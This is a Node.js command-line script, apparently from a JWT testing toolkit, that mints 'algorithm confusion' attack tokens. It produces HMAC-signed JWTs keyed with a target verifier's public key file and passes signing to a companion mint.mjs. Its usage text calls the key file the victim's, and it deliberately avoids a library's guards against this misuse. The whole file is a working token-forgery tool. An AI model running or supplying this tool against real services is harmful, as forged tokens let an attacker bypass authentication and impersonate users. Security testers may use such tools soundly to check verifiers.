#!/usr/bin/env node
// hs-confusion.mjs --pub FILE.pub.pem [--alg HS256|HS384|HS512] [--trim-secret] [mint claim/header options]
//
// The classic RS/ES -> HS "algorithm confusion" attack token: an HMAC JWS whose
// secret is the verifier's *public* key file, byte for byte (PEM text incl. its
// trailing newline unless --trim-secret).  Equivalent to
//   node mint.mjs --hs-with-pubkey FILE [--alg HS256] ...
// Signed with node:crypto's HMAC (jose has guards against this misuse).

import { spawnSync } from 'node:child_process';
import { fileURLToPath } from 'node:url';
import { dirname, join } from 'node:path';

const PROG = 'hs-confusion.mjs';
const USAGE = `usage: node hs-confusion.mjs --pub FILE [--alg HS256|HS384|HS512] [--trim-secret] [--claims JSON] [other mint.mjs options]
  Prints an HMAC-signed JWT whose HMAC secret is the exact bytes of FILE
  (normally the victim's X.pub.pem; any file works, e.g. a DER or JWK file).
  All mint.mjs header/claim options are accepted (--kid --sub --iss --aud --claims --now ...).
`;

const argv = process.argv.slice(2);
if (argv.includes('--help')) {
  process.stdout.write(USAGE);
  process.exit(0);
}
const out = [];
let pub;
for (let i = 0; i < argv.length; i++) {
  const a = argv[i];
  if (a === '--pub' || a.startsWith('--pub=')) {
    if (pub !== undefined) {
      process.stderr.write(`${PROG}: error: --pub given twice\n${USAGE}`);
      process.exit(2);
    }
    if (a === '--pub') {
      if (i + 1 >= argv.length) {
        process.stderr.write(`${PROG}: error: option --pub needs a value\n${USAGE}`);
        process.exit(2);
      }
      pub = argv[++i];
    } else pub = a.slice('--pub='.length);
  } else if (a === '--key' || a === '--secret-file' || a === '--hs-with-pubkey') {
    process.stderr.write(`${PROG}: error: ${a} is not allowed here; use --pub\n${USAGE}`);
    process.exit(2);
  } else out.push(a);
}
if (pub === undefined) {
  process.stderr.write(`${PROG}: error: --pub FILE is required\n${USAGE}`);
  process.exit(2);
}
if (!out.some((a) => a === '--alg' || a.startsWith('--alg='))) out.unshift('--alg', 'HS256');

const mint = join(dirname(fileURLToPath(import.meta.url)), 'mint.mjs');
const r = spawnSync(process.execPath, [mint, '--hs-with-pubkey', pub, ...out], { stdio: 'inherit' });
if (r.error) {
  process.stderr.write(`${PROG}: error: cannot run mint.mjs: ${r.error.message}\n`);
  process.exit(1);
}
process.exit(r.status ?? 1);
